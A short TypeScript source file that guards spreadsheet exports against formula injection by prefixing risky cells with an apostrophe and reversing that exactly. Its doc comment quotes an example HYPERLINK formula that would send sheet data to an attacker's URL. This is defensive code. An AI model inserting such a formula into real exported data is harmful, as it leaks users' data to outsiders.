/**
 * Spreadsheets run a cell that starts with one of these as a formula (OWASP, "CSV Injection"):
 * `=HYPERLINK("http://…?d="&C3,"open")` in a title would send the sheet's data to whoever wrote it.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;
const NEUTRALISED = /^'+[=+\-@\t\r]/;

/**
 * Prefixes a text a spreadsheet would run with an apostrophe, which makes it text. A text that already
 * starts with apostrophes before such a character gets one more, so that `restoreFormulaText` can undo
 * exactly this and nothing else: every text comes back from a round trip as it was.
 */
export function neutraliseFormulaText(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

export function restoreFormulaText(text: string): string {
  return NEUTRALISED.test(text) ? text.slice(1) : text;
}
